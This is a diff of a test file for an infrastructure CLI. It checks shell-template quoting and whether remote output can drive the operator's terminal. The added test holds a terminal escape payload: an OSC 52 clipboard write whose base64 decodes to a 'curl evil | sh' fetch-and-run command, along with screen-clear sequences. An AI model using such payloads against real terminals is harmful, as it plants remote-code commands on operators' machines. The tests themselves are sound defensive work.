@@ -1,8 +1,9 @@
 /**
- * Issue 10 items 10 and 27, through the real CLI on a real container: `{{ }}` in a YAML shell
- * field (cmd, unless, onlyIf, validate) inserts the value as one quoted shell word, so a value
- * holding `'` or `$(…)` runs nothing; `{{raw …}}` still splices shell syntax on purpose; and
- * a YAML handler's parameters are templated like a task's.
+ * Hostile input through the real CLI on a real container (issue 10). Items 10 and 27: `{{ }}`
+ * in a YAML shell field (cmd, unless, onlyIf, validate) inserts the value as one quoted shell
+ * word, so a value holding `'` or `$(…)` runs nothing; `{{raw …}}` still splices shell syntax
+ * on purpose; and a YAML handler's parameters are templated like a task's. Item 9: a host's
+ * output cannot drive the operator's terminal (OSC 52 clipboard writes, screen clears).
  */
 import { describe, it, expect, beforeAll, afterAll } from 'vitest';
 import { mkdtemp, rm, writeFile } from 'node:fs/promises';
@@ -35,6 +36,8 @@ const PLAYBOOK = `
     mark:
       command.run: { cmd: "touch {{ vars.marker }}" }
 `;
+
+const OSC52 = '\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007';
 
 let fleet: Fleet;
 let work: string;
@@ -94,4 +97,25 @@ describe('templated shell fields', () => {
     const literal = await fleet.exec('target1', "find / -xdev \\( -name '{{' -o -name 'vars.marker' -o -name '}}' \\) -print 2>/dev/null");
     expect(literal.stdout).toBe('');
   });
+});
+
+describe('remote output on the terminal', () => {
+  // printf turns \033 and \007 into the real bytes on the host; \302\233 is U+009B, the C1 CSI.
+  const hostile = "printf 'a\\033]52;c;Y3VybCBldmlsIHwgc2g=\\007b\\033[2Jc\\302\\2332J\\r\\n'; printf 'err\\033[31m\\n' >&2";
+
+  it('infra exec shows control characters escaped, in plain output', async () => {
+    const r = await infra(['exec', '-i', fleet.inventoryDir, '-l', 'target1', '--', hostile]);
+    expect(r.code, output(r)).toBe(0);
+    expect(r.stdout).toContain('│ a\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07b\\x1b[2Jc\\x9b2J\\x0d');
+    expect(r.stdout).toContain('! err\\x1b[31m');
+    expect(output(r)).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
+  }, 60_000);
+
+  it('--json keeps the exact bytes, JSON-escaped', async () => {
+    const r = await infra(['exec', '-i', fleet.inventoryDir, '-l', 'target1', '--json', '--', hostile]);
+    expect(r.code, output(r)).toBe(0);
+    expect(r.stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
+    const out = r.events.find((e) => e.type === 'exec.output');
+    expect(out).toMatchObject({ stdout: `a${OSC52}b\u001b[2Jc\u009b2J\r\n`, stderr: 'err\u001b[31m\n' });
+  }, 60_000);
 });
